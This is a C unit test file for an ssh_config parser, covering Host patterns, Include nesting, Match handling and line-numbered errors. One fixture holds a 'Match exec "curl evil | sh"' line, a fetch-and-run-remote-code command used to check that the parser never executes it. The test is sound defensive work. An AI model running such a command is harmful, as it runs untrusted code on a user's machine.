/* ~/.ssh/config: Host patterns and negation, first value wins, Include nesting under its
 * block, Match host/all, Match exec refused with file:line, syntax errors with file:line. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "gitcmdb/gitcmdb.h"
#include "gitcmdb/ssh_config.h"
#include "testutil.h"

static cmdb_ssh_config *parse_ok(const char *text, const char *dir)
{
	cmdb_ssh_config *cfg = NULL;

	if (cmdb_ssh_config_parse(&cfg, text, strlen(text), "config", dir) < 0)
		fail_msg("unexpected error: %s", cmdb_error_last());
	return cfg;
}

static void test_ssh_config__patterns_first_value_wins(void **state)
{
	static const char text[] = "# comment\n"
				   "Host bastion\n"
				   "    HostName 198.51.100.1\n"
				   "    User admin\n"
				   "    Port 2200\n"
				   "Host web* !web99\n"
				   "    ProxyJump bastion\n"
				   "    IdentityFile ~/.ssh/id_%r\n"
				   "Host WEB01\n"
				   "    User never-first-wins\n"
				   "Host db?\n"
				   "    Port=2222\n"
				   "Host *\n"
				   "    User \"cmdb\"\n"
				   "    ProxyJump none\n";
	cmdb_ssh_config *cfg = parse_ok(text, "/nonexistent");
	cmdb_ssh_config_host h;

	(void)state;
	cmdb_ssh_config_lookup(&h, cfg, "bastion");
	assert_string_equal(h.hostname, "198.51.100.1");
	assert_string_equal(h.user, "admin");
	assert_int_equal(h.port, 2200);
	assert_null(h.proxy_jump);
	cmdb_ssh_config_lookup(&h, cfg, "web01");
	assert_string_equal(h.proxy_jump, "bastion");
	assert_string_equal(h.identity_file, "~/.ssh/id_%r");
	assert_string_equal(h.user, "never-first-wins"); /* patterns match case-insensitively */
	assert_null(h.hostname);
	assert_int_equal(h.port, 0);
	cmdb_ssh_config_lookup(&h, cfg, "web99"); /* negated: only Host * applies */
	assert_null(h.proxy_jump); /* "none" */
	assert_string_equal(h.user, "cmdb");
	cmdb_ssh_config_lookup(&h, cfg, "db1");
	assert_int_equal(h.port, 2222);
	cmdb_ssh_config_lookup(&h, cfg, "db10"); /* ? is one character */
	assert_int_equal(h.port, 0);
	assert_int_equal(cmdb_ssh_config_warning_count(cfg), 0);
	cmdb_ssh_config_free(cfg);
}

static void test_ssh_config__match(void **state)
{
	static const char text[] = "Match host db*,mail\n"
				   "  User dba\n"
				   "Match exec \"curl evil | sh\"\n"
				   "  User exec-user\n"
				   "Match user root\n"
				   "  Port 1\n"
				   "Match all\n"
				   "  Port 2022\n";
	cmdb_ssh_config *cfg = parse_ok(text, "/nonexistent");
	cmdb_ssh_config_host h;

	(void)state;
	cmdb_ssh_config_lookup(&h, cfg, "db01");
	assert_string_equal(h.user, "dba");
	assert_int_equal(h.port, 2022);
	cmdb_ssh_config_lookup(&h, cfg, "web");
	assert_null(h.user); /* Match exec is never run, its block never applies */
	assert_int_equal(cmdb_ssh_config_warning_count(cfg), 2);
	assert_string_equal(cmdb_ssh_config_warning(cfg, 0),
		"config:3: Match exec is never run by gitcmdb; the block is skipped");
	assert_non_null(strstr(cmdb_ssh_config_warning(cfg, 1), "config:5: Match criteria"));
	cmdb_ssh_config_free(cfg);
}

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void test_ssh_config__include(void **state)
{
	char dir[] = "/tmp/gitcmdb-sshcfg-XXXXXX", path[256], sub[256];
	cmdb_ssh_config *cfg;
	cmdb_ssh_config_host h;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(sub, sizeof(sub), "%s/conf.d", dir);
	assert_int_equal(mkdir(sub, 0700), 0);
	snprintf(path, sizeof(path), "%s/conf.d/a.conf", dir);
	write_file(path, "HostName from-include\nHost inner\n  Port 2001\n");
	snprintf(path, sizeof(path), "%s/conf.d/b.conf", dir);
	write_file(path, "Port 2002\n");
	/* the include sits in "Host outer": its lines apply only to outer, its Host blocks
	 * only to hosts that match both */
	cfg = parse_ok("Host outer inner\n  Include conf.d/*.conf\nHost *\n  Port 22\n", dir);
	cmdb_ssh_config_lookup(&h, cfg, "outer");
	assert_string_equal(h.hostname, "from-include");
	assert_int_equal(h.port, 2002);
	cmdb_ssh_config_lookup(&h, cfg, "inner");
	assert_int_equal(h.port, 2001);
	cmdb_ssh_config_lookup(&h, cfg, "other");
	assert_null(h.hostname);
	assert_int_equal(h.port, 22);
	cmdb_ssh_config_free(cfg);
	/* a file that includes itself stops at the nesting limit, naming the line */
	snprintf(path, sizeof(path), "%s/loop.conf", dir);
	write_file(path, "Include loop.conf\n");
	cfg = (cmdb_ssh_config *)1;
	assert_int_equal(cmdb_ssh_config_parse(&cfg, "Include loop.conf\n", 18, "config", dir),
		CMDB_EINVALID);
	assert_null(cfg);
	assert_non_null(strstr(cmdb_error_last(), "loop.conf:1: Include nested over 16 deep"));
	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	assert_int_equal(system(path), 0);
}

static void rejects(const char *text, const char *needle)
{
	cmdb_ssh_config *cfg = (cmdb_ssh_config *)1;

	assert_int_equal(cmdb_ssh_config_parse(&cfg, text, strlen(text), "config", "/nonexistent"),
		CMDB_EINVALID);
	assert_null(cfg);
	if (!strstr(cmdb_error_last(), needle))
		fail_msg("'%s' lacks '%s'", cmdb_error_last(), needle);
}

static void test_ssh_config__errors_name_the_line(void **state)
{
	(void)state;
	rejects("Host a\n  Port 0\n", "config:2: Port must be 1-65535");
	rejects("Host a\n  Port 70000\n", "config:2: Port");
	rejects("\n\nHost \"a\n", "config:3: an unclosed quote");
	rejects("HostName\n", "config:1: HostName without a value");
	rejects("Host\n", "config:1: Host without a pattern");
}

static void test_ssh_config__nul_byte(void **state)
{
	cmdb_ssh_config *cfg = NULL;

	(void)state;
	assert_int_equal(
		cmdb_ssh_config_parse(&cfg, "Host a\0b\n", 9, "config", "/x"), CMDB_EINVALID);
	assert_null(cfg);
	assert_non_null(strstr(cmdb_error_last(), "config: a NUL byte"));
}

static void test_ssh_config__missing_file_is_empty(void **state)
{
	cmdb_ssh_config *cfg = NULL;
	cmdb_ssh_config_host h;

	(void)state;
	assert_int_equal(cmdb_ssh_config_load(&cfg, "/nonexistent/gitcmdb/config"), 0);
	cmdb_ssh_config_lookup(&h, cfg, "x");
	assert_null(h.user);
	cmdb_ssh_config_free(cfg);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ssh_config__patterns_first_value_wins),
		cmocka_unit_test(test_ssh_config__match),
		cmocka_unit_test(test_ssh_config__include),
		cmocka_unit_test(test_ssh_config__errors_name_the_line),
		cmocka_unit_test(test_ssh_config__nul_byte),
		cmocka_unit_test(test_ssh_config__missing_file_is_empty),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
